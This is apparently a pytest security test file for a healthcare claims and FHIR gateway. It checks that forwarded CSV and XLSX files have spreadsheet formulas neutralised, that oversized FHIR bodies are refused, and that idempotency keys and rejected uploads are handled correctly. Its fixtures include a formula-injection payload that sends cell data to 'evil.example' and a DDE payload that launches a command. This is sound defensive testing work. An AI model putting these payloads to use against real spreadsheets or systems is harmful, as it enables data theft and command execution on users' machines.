"""Hostile content: formulas forwarded between partners, a FHIR body built to be costly, an
Idempotency-Key reused for another body, a server path in a message, a date range backwards."""

from __future__ import annotations

import io
import json

from conftest import renumber
from servers import ROOT

FIXTURES = ROOT / "fixtures"
MIXED = (FIXTURES / "837p" / "ecm-mixed.x12").read_bytes()
CAREPLAN = json.loads((FIXTURES / "fhir" / "resources" / "careplan-ecm.json").read_text())
FORMULA = '=HYPERLINK("http://evil.example/steal?x="&A1;"click")'


def _routed(served, partner: str, submission_id: str, role: str) -> bytes:
    for item in served.client.get("/mailbox", headers=served.auth(partner)).json()["documents"]:
        if item["submission_id"] == submission_id and item["role"] == role:
            return served.client.get(item["href"], headers=served.auth(partner)).content
    raise AssertionError(f"no {role} for {submission_id} in {partner}'s mailbox")


def _send_file(served, partner: str, name: str, content: bytes) -> str:
    answer = served.client.post("/files", files={"file": (name, content, "text/csv")},
                                headers=served.auth(partner, Prefer="respond-async"))
    assert answer.status_code in (200, 202), answer.text
    sid = answer.json()["submission_id"]
    served.wait_done(sid)
    return sid


def _with_formula_csv(path, column: str) -> bytes:
    import csv

    rows = list(csv.reader(io.StringIO(path.read_text())))
    index = rows[0].index(column)
    rows[1][index] = FORMULA
    rows[2][index] = "@SUM(1+1)*cmd|' /C calc'!A0"
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode()


def test_a_providers_rtf_formula_reaches_the_plan_as_text(served):
    sent = _with_formula_csv(FIXTURES / "rtf" / "rtf-clean.csv", "Member Residential Address")
    sid = _send_file(served, "harbor", "rtf.csv", sent)
    routed = _routed(served, "demo-plan", sid, "routed-rtf").decode()
    assert "'=HYPERLINK(" in routed and "'@SUM(1+1)" in routed
    assert ",=HYPERLINK" not in routed and '"=HYPERLINK' not in routed
    assert served.store.raw_payload(sid) == sent  # the received file is kept as received


def test_a_plans_mif_formula_reaches_the_provider_as_text(served):
    sent = _with_formula_csv(FIXTURES / "mif" / "mif-clean.csv", "Member Residential Address")
    sid = _send_file(served, "demo-plan", "mif.csv", sent)
    routed = _routed(served, "harbor", sid, "routed-mif").decode()
    assert "'=HYPERLINK(" in routed and ",=HYPERLINK" not in routed
    assert served.store.raw_payload(sid) == sent


def test_an_xlsx_formula_is_forwarded_as_a_text_cell(served):
    import csv

    from openpyxl import Workbook, load_workbook

    rows = list(csv.reader(io.StringIO((FIXTURES / "rtf" / "rtf-clean.csv").read_text())))
    column = rows[0].index("Member Residential Address")
    book = Workbook()
    sheet = book.active
    for number, row in enumerate(rows):
        sheet.append(row)
        if number == 1:
            sheet.cell(row=2, column=column + 1).value = FORMULA  # a live formula cell
    out = io.BytesIO()
    book.save(out)
    answer = served.client.post("/files", files={"file": ("rtf.xlsx", out.getvalue(),
                                                          "application/octet-stream")},
                                headers=served.auth("harbor", Prefer="respond-async"))
    sid = answer.json()["submission_id"]
    served.wait_done(sid)
    routed = load_workbook(io.BytesIO(_routed(served, "demo-plan", sid, "routed-rtf")))
    cells = [c for ws in routed.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("=")]


def test_a_hostile_careplan_is_refused_with_an_outcome(served):
    """2 MB of unknown members in one object: refused unchecked (FHIR-PARSE-013); the same
    spread over many objects under the member limit: the issues stop at the cap and say so
    (the time is measured by bench/bench_fhir_hostile.py)."""
    flat = dict(CAREPLAN, **{f"x{i:07d}": 1 for i in range(150_000)})
    body = json.dumps(flat).encode()
    assert len(body) > 2_000_000
    answer = served.client.post("/fhir/CarePlan", content=body, headers=served.auth(
        "harbor", **{"Content-Type": "application/fhir+json"}))
    assert 400 <= answer.status_code < 500
    outcome = answer.json()
    assert outcome["resourceType"] == "OperationOutcome"
    assert [i["details"]["coding"][0]["code"] for i in outcome["issue"]] == ["FHIR-PARSE-013"]
    spread = dict(CAREPLAN, note=[{"text": "x", **{f"x{i:03d}": 1 for i in range(900)}}
                                  for _ in range(20)])
    answer = served.client.post("/fhir/CarePlan", content=json.dumps(spread).encode(),
                                headers=served.auth("harbor", **{
                                    "Content-Type": "application/fhir+json"}))
    assert 400 <= answer.status_code < 500
    codes = [i["details"]["coding"][0]["code"] for i in answer.json()["issue"]]
    assert "FHIR-PARSE-014" in codes and len(codes) <= 1002
    assert served.client.get("/healthz").status_code == 200


def test_an_idempotency_key_reused_with_another_body_is_422_naming_it(served):
    key = {"Idempotency-Key": f"sec-{served.mode}-1"}
    first = served.client.post("/x12", content=renumber(MIXED, 8001),
                               headers=served.auth("harbor", **key))
    assert first.status_code in (200, 202)
    same = served.client.post("/x12", content=renumber(MIXED, 8001),
                              headers=served.auth("harbor", **key))
    assert same.json()["duplicate"] is True
    other = served.client.post("/x12", content=renumber(MIXED, 8002),
                               headers=served.auth("harbor", **key))
    assert other.status_code == 422 and f"'sec-{served.mode}-1'" in other.json()["detail"]
    fhir_key = {"Idempotency-Key": f"sec-{served.mode}-2",
                "Content-Type": "application/fhir+json"}
    created = served.client.post("/fhir/CarePlan", content=json.dumps(CAREPLAN).encode(),
                                 headers=served.auth("harbor", **fhir_key))
    assert created.status_code == 201, created.text
    changed = dict(CAREPLAN, description="another body")
    refused = served.client.post("/fhir/CarePlan", content=json.dumps(changed).encode(),
                                 headers=served.auth("harbor", **fhir_key))
    assert refused.status_code == 422
    issue = refused.json()["issue"][0]
    assert issue["details"]["coding"][0]["code"] == "GATEWAY-IDEM-001"
    assert f"sec-{served.mode}-2" in issue["details"]["text"]


def test_no_server_path_in_a_rejected_upload(served):
    for name, content in (("bad.xlsx", b"PK\x03\x04" + b"garbage" * 50),
                          ("odd.xlsx", b"hello,world\n1,2\n")):
        sid = _send_file(served, "harbor", name, content)
        status = served.client.get(f"/submissions/{sid}", headers=served.auth("harbor")).json()
        text = json.dumps(status)
        assert status["status"] == "rejected"
        for secret in ("/tmp", served.env["TMPDIR"], "ecm-upload", str(ROOT)):
            assert secret not in text, (secret, text)


def test_a_backwards_date_range_is_refused(served):
    backwards = renumber(MIXED, 8101).replace(
        b"DTP*472*D8*20250603~", b"DTP*472*RD8*20250603-20250601~", 1)
    answer = served.client.post("/x12", content=backwards, headers=served.auth(
        "harbor", Prefer="respond-async"))
    sid = answer.json()["submission_id"]
    served.wait_done(sid)
    findings = served.client.get(f"/submissions/{sid}", headers=served.auth("harbor")).json()[
        "findings"]
    dated = [f for f in findings if f["rule"] == "ECM-DATE-001"]
    assert [f["message"] for f in dated] == [
        "the service date range ends on 2025-06-01, before it starts on 2025-06-03"]
